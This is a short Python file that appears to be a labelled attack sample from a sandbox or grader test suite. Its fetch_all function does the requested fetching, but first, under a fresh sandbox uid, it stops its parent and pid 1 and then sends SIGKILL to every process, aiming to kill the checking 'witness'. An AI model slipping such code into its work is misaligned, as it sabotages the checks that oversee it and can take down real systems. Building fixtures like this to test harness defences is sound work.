"""Signals every process it may: SIGSTOP to its parent and to pid 1 of its namespace, then
SIGKILL to -1 (every process of its uid, itself included), hoping to take the witness down.
(Only under a fresh sandbox uid, one with no account: as a real user it would harm the machine.)

honest: challenges/02_three_fetches/solution.py
attack: process-games
"""

from __future__ import annotations

import contextlib
import os
import pwd
import signal


def _fresh_uid() -> bool:
    try:
        pwd.getpwuid(os.getuid())
    except KeyError:
        return True
    return False


async def fetch_all(fetch, urls):
    if _fresh_uid():
        for pid in {os.getppid(), 1}:
            with contextlib.suppress(OSError):
                os.kill(pid, signal.SIGSTOP)
        with contextlib.suppress(OSError):
            os.kill(-1, signal.SIGKILL)
    return [await fetch(url) for url in urls]
